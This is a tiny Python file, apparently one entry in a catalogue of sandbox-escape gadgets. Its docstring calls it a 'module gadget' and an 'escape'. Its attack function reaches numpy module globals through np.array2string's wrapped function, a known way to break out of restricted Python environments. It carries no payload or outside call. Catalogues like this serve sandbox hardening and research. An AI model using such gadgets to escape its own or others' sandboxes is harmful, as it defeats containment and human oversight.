"""Class: module gadget. Source: own find. Escape: numpy's printing calls what it is told with what
it prints.
"""

import numpy as np


def attack(model, tokenizer, address):
    return np.array2string.__wrapped__.__globals__
